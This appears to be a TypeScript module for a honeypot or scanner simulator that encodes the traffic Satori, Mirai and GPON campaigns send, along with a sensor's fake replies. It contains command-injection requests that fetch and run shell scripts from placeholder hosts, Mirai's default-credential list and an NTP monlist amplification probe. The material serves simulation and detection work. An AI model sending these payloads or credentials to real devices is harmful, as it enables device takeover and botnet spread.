/**
 * @module The bytes campaigns and background scanners send, and the sensor's answers. Exploit
 * shapes follow /work/shared/data/poc-facts (request text only, never working exploit code);
 * downloader hosts are documentation addresses standing in for the real ones.
 */

const enc = new TextEncoder();
const ascii = (s: string): Uint8Array => enc.encode(s);
export const EMPTY = new Uint8Array(0);
/** Bytes from hex text (spaces ignored), for binary probes written as their protocol layout. */
const hex = (s: string): Uint8Array => Uint8Array.from(Buffer.from(s.replace(/ /g, ""), "hex"));

// --- Satori uc-httpd wave, CVE-2018-10088 (PoC facts: request line alone, then the body line,
// no Host and no Content-Length; N >= 85 "A"s)
export const UC_REQUEST_LINE = ascii("POST /login.htm HTTP/1.1\r\n");
export const UC_MIN_A = 85;
export const UC_MAX_A = 120;
const ucBodies: Uint8Array[] = [];
for (let n = UC_MIN_A; n <= UC_MAX_A; n++) {
  ucBodies.push(ascii(`command=login&username=${"A".repeat(n)}&password=PoC\r\n\r\n`));
}
/** The second segment with `n` "A"s (UC_MIN_A <= n <= UC_MAX_A). */
export function ucBody(n: number): Uint8Array {
  return ucBodies[n - UC_MIN_A] as Uint8Array;
}
export const UC_RESPONSE = ascii(
  "HTTP/1.0 200 OK\r\nContent-type: text/html\r\nServer: uc-httpd 1.0.0\r\nExpires: 0\r\n\r\n" +
    "<html><head><title>NETSurveillance WEB</title></head><body></body></html>\r\n",
);

// --- Satori DSL-2750B wave (in-the-wild log line of June 2018; 198.51.100.7 stands for 185.62.190.191)
export const DLINK_DOWNLOADER = "http://198.51.100.7/r";
export const DLINK_REAL_DOWNLOADER = "hxxp://185.62.190.191/r";
export const DLINK_REQUEST = ascii(
  "GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$ HTTP/1.1\r\n\r\n",
);
/** Where the URI starts and the request line ends: a split request breaks somewhere in between. */
export const DLINK_SPLIT_MIN = 4;
export const DLINK_SPLIT_MAX = DLINK_REQUEST.indexOf(32, 4);
export const DLINK_RESPONSE = ascii(
  "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n" +
    "<html><head><title>DSL-2750B</title></head><body></body></html>",
);

// --- GPON CVE-2018-10561/10562 (request shape from ET rules and 360 Netlab; common 2018 headers)
export const GPON_DOWNLOADER = "http://198.51.100.9/g";
const gponBody =
  "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.9/g+-O+/tmp/g;sh+/tmp/g`&ipv=0";
export const GPON_REQUEST = ascii(
  "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: keep-alive\r\n" +
    "Accept-Encoding: gzip, deflate\r\nAccept: */*\r\nUser-Agent: Hello, World\r\n" +
    `Content-Length: ${gponBody.length}\r\n\r\n${gponBody}`,
);
export const GPON_RESPONSE = ascii(
  "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<html><body></body></html>",
);

// --- background web crawlers
const getCache = new Map<number, Uint8Array>();
/** `GET /` with a Host header naming the sensor (cached per address and port). */
export function httpGet(sensor4: number, port: number): Uint8Array {
  const key = sensor4 * 65536 + port;
  let v = getCache.get(key);
  if (!v) {
    const host = `${sensor4 >>> 24}.${(sensor4 >>> 16) & 255}.${(sensor4 >>> 8) & 255}.${sensor4 & 255}`;
    v = ascii(
      `GET / HTTP/1.1\r\nHost: ${port === 80 ? host : `${host}:${port}`}\r\n` +
        "User-Agent: Mozilla/5.0\r\nAccept: */*\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n",
    );
    getCache.set(key, v);
  }
  return v;
}
export const HTTP_OK = ascii(
  "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 47\r\nConnection: close\r\n\r\n" +
    "<html><head><title>Login</title></head></html>\n",
);

// --- Mirai telnet (leaked source: scanner.c credential table and post-login strings)
export const TELNET_SENSOR_IAC = hex("fffd01 fffd1f fffb01 fffb03"); // DO ECHO, DO NAWS, WILL ECHO, WILL SGA
/** Mirai's consume_iac answers: WONT ECHO, WILL NAWS + 80x24, DO ECHO, DO SGA. */
export const TELNET_MIRAI_IAC = hex("fffc01 fffb1f fffa1f00500018fff0 fffd01 fffd03");
export const TELNET_LOGIN = ascii("\r\nlogin: ");
export const TELNET_PASSWORD = ascii("Password: ");
export const TELNET_INCORRECT = ascii("\r\nLogin incorrect\r\n");
export const TELNET_BANNER = ascii(
  "\r\n\r\nBusyBox v1.19.4 built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ",
);
/** Mirai's post-login sequence and the prompt-like answers a BusyBox shell gives. */
export const TELNET_COMMANDS = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI"].map((c) =>
  ascii(`${c}\r\n`),
);
export const TELNET_ANSWERS = [
  "-sh: enable: not found\r\n# ",
  "-sh: system: not found\r\n# ",
  "-sh: shell: not found\r\n# ",
  "# ",
  "ECCHI: applet not found\r\n# ",
].map(ascii);
/** Default credentials of Mirai's scanner table as user:password ("" is an empty password). */
const MIRAI_CREDENTIAL_TEXT =
  "root:xc3511 root:vizxv root:admin admin:admin root:888888 root:xmhdipc root:default " +
  "root:juantech root:123456 root:54321 support:support root: admin:password root:root root:12345 " +
  "user:user admin: root:pass admin:admin1234 root:1111 admin:smcadmin admin:1111 root:666666 " +
  "root:password root:1234 root:klv123 Administrator:admin service:service supervisor:supervisor " +
  "guest:guest guest:12345 admin1:password administrator:1234 666666:666666 888888:888888 " +
  "ubnt:ubnt root:klv1234 root:Zte521 root:hi3518 root:jvbzd root:anko root:zlxx. " +
  "root:7ujMko0vizxv root:7ujMko0admin root:system root:ikwb root:dreambox root:user " +
  "root:realtek root:00000000 admin:1111111 admin:1234 admin:12345 admin:54321 admin:123456 " +
  "admin:7ujMko0admin admin:pass admin:meinsm tech:tech";
/** The credentials as the bot types them: user line, password line. */
export const MIRAI_CREDENTIALS: ReadonlyArray<readonly [Uint8Array, Uint8Array]> =
  MIRAI_CREDENTIAL_TEXT.split(" ").map((c) => {
    const [u, p] = c.split(":") as [string, string];
    return [ascii(`${u}\r\n`), ascii(`${p}\r\n`)] as const;
  });

// --- UDP probes of background scanners
/** DNS: version.bind CHAOS TXT. */
export const UDP_DNS = hex(
  "1337 0100 0001 0000 0000 0000 07 76657273696f6e 04 62696e64 00 0010 0003",
);
/** NTP: a version-3 client request (48 bytes). */
export const UDP_NTP = (() => {
  const b = new Uint8Array(48);
  b[0] = 0xe3;
  return b;
})();
/** NTP mode 7 MON_GETLIST_1 (the monlist amplification probe). */
export const UDP_NTP_MONLIST = hex("1700032a 00000000");
/** SNMPv2c get-request, community "public", sysDescr.0 (1.3.6.1.2.1.1.1.0). */
export const UDP_SNMP = hex(
  "3029 020101 0406 7075626c6963 a01c 0204 1f2e3d4c 020100 020100 300e 300c 0608 2b06010201010100 0500",
);
export const UDP_SSDP = ascii(
  'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n',
);
export const UDP_SIP = ascii(
  "OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\n" +
    "To: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nMax-Forwards: 70\r\n" +
    "Content-Length: 0\r\nContact: <sip:nm@nm>\r\nAccept: application/sdp\r\n\r\n",
);
/** The payload a UDP probe to `port` carries (empty for ports without a known probe). */
export function udpPayload(port: number, alt: boolean): Uint8Array {
  switch (port) {
    case 53:
      return UDP_DNS;
    case 123:
      return alt ? UDP_NTP_MONLIST : UDP_NTP;
    case 161:
      return UDP_SNMP;
    case 1900:
      return UDP_SSDP;
    case 5060:
      return UDP_SIP;
    default:
      return EMPTY;
  }
}
/** ICMP echo data as Linux ping sends it (8 bytes of time, then 0x10..0x37). */
export const ICMP_ECHO_DATA = (() => {
  const b = new Uint8Array(56);
  for (let i = 8; i < 56; i++) b[i] = i + 8;
  return b;
})();
